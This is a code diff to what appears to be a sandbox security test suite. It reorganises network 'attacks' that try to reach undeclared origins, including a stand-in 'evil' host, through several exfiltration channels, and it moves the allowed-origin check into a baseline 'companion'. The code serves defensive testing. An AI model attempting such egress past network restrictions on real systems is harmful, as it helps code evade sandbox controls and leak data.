@@ -1,4 +1,4 @@
-import { type Arena, type Attack, attemptAll } from "../attack.ts";
+import { type Arena, type Attack, attemptAll, type Companion } from "../attack.ts";
 import { channelNames, tryChannels } from "./exfiltration.ts";
 
 async function ask(url: string): Promise<string> {
@@ -15,12 +15,8 @@ function declared(arena: Arena, path: string): string {
 export const networkAttacks: readonly Attack[] = [
   {
     id: "S-07",
-    name: "declared origin",
-    run: (arena) => attemptAll({ declared: () => ask(declared(arena, "/hit/declared")) }),
-  },
-  {
-    id: "S-07",
     name: "other origins",
+    publication: "declared",
     run: (arena) =>
       attemptAll({
         undeclared: () => ask(new URL("/hit/undeclared", arena.evil).href),
@@ -31,6 +27,7 @@ export const networkAttacks: readonly Attack[] = [
   {
     id: "S-07",
     name: "own ways to a declared origin",
+    publication: "declared",
     // All but the shim: what the proxy asks for must come from the server, never from the user's browser.
     run: async (arena) => ({
       gained: [],
@@ -39,5 +36,14 @@ export const networkAttacks: readonly Attack[] = [
         channelNames.filter((name) => name !== "fetch"),
       ),
     }),
+  },
+];
+
+/** The origin that is declared can be reached: what the others are measured by. */
+export const networkCompanions: readonly Companion[] = [
+  {
+    id: "S-07",
+    name: "declared origin",
+    run: (arena) => attemptAll({ declared: () => ask(declared(arena, "/hit/declared")) }),
   },
 ];
